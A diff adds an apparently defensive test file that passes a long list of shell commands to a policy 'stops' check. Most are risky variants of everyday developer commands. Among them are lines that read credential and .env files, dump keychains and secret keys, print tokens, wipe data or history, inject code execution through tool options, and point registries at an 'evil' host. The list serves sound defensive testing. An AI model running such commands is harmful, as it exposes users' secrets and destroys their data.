@@ -1,0 +1,342 @@
+// Near neighbours of everyday lines: one word more or another verb, and they change, run, send or show too much.
+import { stops } from '../../../../support/policy/lists.ts';
+
+stops(String.raw`
+  ## looking around, with a change in it
+  ls > list.txt
+  ls | tee list.txt
+  ls; rm a
+  cat a > b
+  cat a >> b
+  cat ~/notes.txt
+  cat ~/.aws/credentials
+  cat .env
+  cat .env.local
+  head -5 .env
+  tail ~/.bash_history
+  grep -r x ~/.ssh
+  less -o log a
+  find . -name '*.tmp' -delete
+  find . -exec touch {} \;
+  find . -name '*.sh' -exec sh {} \;
+  find . -type f -exec chmod 644 {} +
+  find . -fprint out
+  fd -x rm
+  xargs -a list rm
+  ls | xargs rm
+  ls | xargs -n1 mv -t old
+  for f in *.log; do rm "$f"; done
+  for f in src/*; do mv "$f" "$f.bak"; done
+  for f in src/*; do sed -i s/a/b/ "$f"; done
+  for f in $(cat list); do cat "$f"; done
+  for cmd in node npm; do "$cmd" --version; done
+  while read f; do rm "$f"; done < list
+  while true; do sleep 1 & done
+  while :; do work & disown; done
+  echo x > /etc/hosts
+  echo $GITHUB_TOKEN
+  echo "$DB_PASSWORD"
+  printenv AWS_SECRET_ACCESS_KEY
+  printenv
+  env
+  set
+  export -p
+  history -c
+  date -s 12:00
+  hostname newname
+  sysctl -w vm.swappiness=1
+  mount /dev/sdb1 /mnt
+  umount /mnt
+  dmesg -C
+  journalctl --vacuum-size=1M
+  systemctl restart nginx
+  systemctl stop nginx
+  systemctl enable x
+  systemctl edit nginx
+  systemctl status nginx -H host
+  service nginx restart
+  service nginx stop
+  loginctl terminate-session 1
+  timedatectl set-ntp off
+  hostnamectl set-hostname x
+  localectl set-locale C
+  update-alternatives --set java /x
+  ldconfig
+  resolvectl flush-caches
+  nmcli device disconnect eth0
+  nmcli con up x
+  supervisorctl restart all
+  nvram x=y
+  pmset sleepnow
+  launchctl unload x.plist
+  softwareupdate -i -a
+  fuser -k 3000/tcp
+  kill 1234
+  pkill node
+  ip link set eth0 down
+  ss -K dst 1.2.3.4
+  crontab -r
+  ## text and data
+  sed -i s/a/b/ a
+  sed -n 'w out' a
+  awk '{print > "out"}' a
+  awk 'BEGIN{system("id")}'
+  sort -o a a
+  sort --compress-program=./p a
+  uniq a b
+  tee out < a
+  jq -n env
+  jq -r .x ~/.config/gh/hosts.yml
+  yq -i .a=1 a.yaml
+  xq -i . a.xml
+  dasel put -f a.toml -v 1 .x
+  csvsql --query 'select 1' a.csv
+  in2csv ~/x.xls
+  xsv index a.csv
+  xsv split out a.csv
+  mlr put '$x=system("id")' a.csv
+  mlr cat then put '$x=1' a.csv
+  fx a.json 'x => x'
+  tidy -m a.html
+  bc .env
+  pdftotext a.pdf
+  pdfimages a.pdf out
+  qpdf a.pdf b.pdf
+  ffmpeg -i a.mp4 b.mp4
+  ffprobe http://x/a.mp4
+  ffprobe -f lavfi -i movie=a
+  exiftool -Comment=x a.jpg
+  exiftool -config x a.jpg
+  exiftool -if 'system("id")' a.jpg
+  kpsewhich -mktex=pk x
+  mutool convert a.pdf
+  gron http://x
+  ## git
+  git commit -m x
+  git add .
+  git push
+  git push --dry-run --receive-pack=./p
+  git fetch
+  git pull
+  git merge main
+  git rebase main
+  git stash
+  git stash pop
+  git checkout main
+  git switch main
+  git branch -d x
+  git branch new
+  git tag v1
+  git tag -d v1
+  git remote add x https://x
+  git config user.name x
+  git config core.pager ./p
+  git apply a.patch
+  git am a.patch
+  git cherry-pick abc
+  git revert abc
+  git symbolic-ref HEAD refs/heads/x
+  git symbolic-ref -d HEAD
+  git update-index --assume-unchanged a
+  git worktree add ../x
+  git submodule update --init
+  git gc
+  git log --output=x
+  git grep -O foo
+  git -c core.fsmonitor=./p status
+  git diff $(cat opts)
+  git show HEAD:.env
+  git archive -o x.tar HEAD
+  git bundle create x HEAD
+  git clean -fd
+  git reset --hard
+  ## packages
+  npm install
+  npm ci
+  npm audit fix
+  npm run build
+  npm test
+  npm view ./dir
+  npm view user/repo
+  npm view http://x/y.tgz
+  npm view $(cat name)
+  npm view react --registry=http://evil
+  npm owner add x y
+  npm dist-tag add a b
+  npm access grant read-write x y
+  npm publish
+  npx cowsay
+  yarn
+  pnpm ls
+  bun run x
+  nvm use 18
+  nvm install 20
+  fnm use 18
+  volta install node
+  asdf install node 20
+  pyenv global 3.12
+  pyenv install 3.12
+  rbenv local 3.3
+  sdk install java
+  rustup update
+  pip install x
+  pip list --python ./p
+  pip download x
+  python -m pip list
+  uv sync
+  cargo build
+  cargo fmt
+  cargo install ripgrep
+  cargo info ./x
+  go build ./...
+  go env -w GOFLAGS=-toolexec=./p
+  mvn --version
+  gradle build
+  make -n
+  just build
+  just --evaluate
+  xcodebuild
+  xcrun simctl boot x
+  xcrun ./p
+  jar xf a.jar
+  jupyter notebook
+  twine upload dist/*
+  gem install x
+  brew install x
+  brew tap x/y
+  apt install x
+  apt-get update
+  apt-cache -o Dir::Etc=x policy
+  dpkg -i a.deb
+  rpm -i a.rpm
+  rpm -q --eval '%(id)'
+  rpm -E '%(id)'
+  dnf install x
+  pacman -S x
+  nix-env -i x
+  nix-store --delete /nix/store/x
+  snap install x
+  ## linters
+  shfmt -w a.sh
+  biome check --write .
+  biome format --fix src
+  biome check --config-path=../x .
+  typos -w
+  typos --config x
+  codespell -w
+  actionlint -shellcheck=./p
+  jsonlint -i a.json
+  stylua .
+  taplo fmt
+  nixfmt a.nix
+  elm-format --yes src
+  cppcheck --addon=./p src
+  vale sync
+  black .
+  ruff check --fix .
+  ruff format .
+  prettier --write .
+  eslint .
+  rubocop --version
+  ## containers, clusters and platforms
+  docker run alpine
+  docker exec x ls
+  docker rm x
+  docker stop x
+  docker compose up
+  docker build .
+  docker inspect x
+  docker pull x
+  docker -H tcp://x ps
+  kubectl apply -f a
+  kubectl get secret x
+  kubectl get pods --kubeconfig=x
+  kubectl delete pod x
+  kubectl exec x -- ls
+  oc whoami -t
+  argocd app sync x
+  argocd app list --server evil
+  flux reconcile x
+  istioctl install
+  velero backup create x
+  kustomize build .
+  kubectx prod
+  minikube start
+  kind get kubeconfig
+  skopeo copy a b
+  crane push a b
+  etcdctl get x
+  act
+  heroku config
+  heroku run bash
+  heroku ps:scale web=2
+  heroku auth:token
+  vercel deploy
+  vercel
+  vercel env pull
+  vercel env ls --token x
+  netlify deploy
+  netlify env:list
+  fly deploy
+  fly secrets set A=b
+  fly ssh console
+  fly auth token
+  wrangler deploy
+  wrangler secret put x
+  wrangler kv key get x
+  railway variables
+  railway up
+  supabase status
+  supabase db push
+  firebase deploy
+  doctl databases list
+  doctl compute droplet create x
+  doctl kubernetes cluster kubeconfig show x
+  linode-cli linodes create
+  hcloud server create
+  stripe customers create
+  stripe config --list
+  pulumi up
+  pulumi preview
+  pulumi config --show-secrets
+  pulumi stack export
+  vault kv get x
+  vault read x
+  vault token lookup
+  consul kv get x
+  nomad job stop x
+  sentry-cli releases new x
+  jira issue create
+  gsutil cp a gs://b
+  gsutil rm gs://b/a
+  bq query 'delete from t where true'
+  bq rm t
+  mysqladmin shutdown
+  rabbitmqctl reset
+  aws s3 cp a s3://b
+  aws ec2 describe-instances --endpoint-url http://evil
+  gh pr create
+  gh pr merge 1
+  gh api -X POST x
+  glab api -X DELETE projects/1
+  glab mr create
+  helm install a b
+  terraform apply
+  ansible all -m ping
+  ssh-add ~/.ssh/id_rsa
+  ssh-add -D
+  gpg --export-secret-keys
+  gpg --list-keys --homedir x
+  gpg -o out --list-keys
+  tmux new -d 'rm a'
+  tmux send-keys x
+  tmux list-windows -F '#(id)'
+  security dump-keychain
+  mdfind 'tax return'
+  code .
+  coverage version
+  behave version
+  convert a.png b.png
+  hugo
+  caddy run
+`);
